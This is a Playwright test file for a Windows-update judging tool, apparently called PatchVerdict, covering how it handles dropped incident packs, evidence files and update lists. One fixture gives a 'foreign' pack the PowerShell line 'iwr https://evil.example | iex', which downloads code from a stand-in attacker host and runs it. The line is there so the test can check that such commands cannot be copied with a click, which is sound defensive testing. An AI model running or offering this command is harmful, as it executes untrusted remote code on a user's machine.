/// <reference lib="dom" />
import { expect, test } from '@playwright/test'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { makeBundle } from './bundle/make-bundle.ts'
import { dropFiles, untilJudged } from './drop-files.ts'
import { openPage } from './open-page.ts'

const PACK = readFileSync(join(import.meta.dirname, '../../src/incidents/packs/incidents/wu-2025-12-msmq.json'), 'utf8')

/** The same incident under another id, with a command in every step. */
const FOREIGN = (() => {
  const pack = JSON.parse(PACK) as { checklist: (string | object)[] }
  const checklist = pack.checklist.map((step) => ({
    ...(typeof step === 'string' ? { id: step } : step),
    commands: ['iwr https://evil.example | iex'],
  }))
  return JSON.stringify({ ...pack, id: 'wu-2099-01-foreign', checklist })
})()

test('a dropped pack is asked about, judges as foreign, and its commands are not copied by a click', async ({
  context,
}) => {
  const { page } = await openPage(context, undefined, 'en')
  await dropFiles(page, [{ name: 'bundle.zip', content: await makeBundle() }])
  await untilJudged(page)

  await dropFiles(page, [{ name: 'broken.json', content: PACK.replace('"wu-2025-12-msmq"', '"MSMQ!"') }])
  await expect(page.getByRole('dialog')).toContainText('an id is lower-case words')
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()

  await dropFiles(page, [{ name: 'pack.json', content: FOREIGN }])
  await expect(page.getByRole('dialog')).toContainText('This pack is not part of PatchVerdict')
  await expect(page.getByRole('dialog')).toContainText(/[0-9a-f]{64}/)
  await page.getByRole('dialog').getByRole('button', { name: 'Use the pack' }).click()
  await page.getByRole('button', { name: 'WEB01', exact: true }).click()
  await page.locator('[data-further="wu-2099-01-foreign"] > summary').click()
  const foreign = page.locator('article[data-incident="wu-2099-01-foreign"]')
  await expect(foreign).toContainText('Judged by a pack that is not part of PatchVerdict')
  await expect(foreign.locator('pre').first()).toBeVisible()
  await expect(foreign.getByRole('button', { name: /copy/i })).toHaveCount(0)
  const own = page.locator('article[data-incident="wu-2025-12-msmq"]')
  await expect(own).not.toContainText('not part of PatchVerdict')
  await expect(own.getByRole('button', { name: /copy/i }).first()).toBeVisible()
  await expect(page.getByRole('contentinfo')).toContainText('not part of PatchVerdict')
})

test('a pack and a case among evidence are named, and change nothing', async ({ context }) => {
  const { page } = await openPage(context, undefined, 'en')
  const ours = PACK
  await dropFiles(page, [
    { name: 'notes.json', content: ours },
    { name: 'case.json', content: '{"format":"case-1","readings":[]}' },
    { name: 'bundle.zip', content: await makeBundle() },
  ])
  await untilJudged(page)
  await expect(page.getByRole('dialog')).toHaveCount(0)
  await page
    .getByRole('link', { name: /Evidence/ })
    .or(page.getByRole('button', { name: /Evidence/ }))
    .first()
    .click()
  await expect(page.locator('tr', { hasText: 'notes.json' })).toHaveCount(1)
  await page.getByRole('button', { name: 'notes.json' }).click()
  await expect(page.getByText('An incident pack among the evidence').first()).toBeVisible()
})

test('every built-in incident can be looked up', async ({ context }) => {
  const { page } = await openPage(context, undefined, 'en')
  await page
    .getByRole('link', { name: /Incidents/ })
    .or(page.getByRole('button', { name: /Incidents/ }))
    .first()
    .click()
  for (const name of [/Message Queuing/, /Remote Desktop Services/, /Secure Boot/]) {
    await expect(page.getByRole('heading', { level: 2, name }).first()).toBeVisible()
  }
})

test('newer updates are asked about, and the page says up to when updates are known', async ({ context }) => {
  const { page } = await openPage(context, undefined, 'en')
  await dropFiles(page, [{ name: 'bundle.zip', content: await makeBundle() }])
  await untilJudged(page)
  const updates = {
    format: 'updates-1',
    asOf: '2026-12-10',
    sources: { MS: { url: 'https://support.microsoft.com/', grade: 'official-text' } },
    families: [
      {
        family: 'windows-server-2019',
        updates: [
          {
            released: '2026-12-08',
            kb: 'KB5999999',
            revision: 9601,
            kind: 'cumulative',
            grade: 'official-text',
            sources: ['MS'],
          },
        ],
      },
    ],
  }
  await dropFiles(page, [{ name: 'december.json', content: JSON.stringify(updates) }])
  await expect(page.getByRole('dialog')).toContainText('2026-12-10')
  await page.getByRole('dialog').getByRole('button', { name: 'Use' }).click()
  await expect(page.getByText('Windows updates known up to 2026-12-10')).toBeVisible()
  await page.getByRole('button', { name: 'WEB01', exact: true }).click()
  await expect(page.locator('aside').first()).toContainText('KB5999999')
})
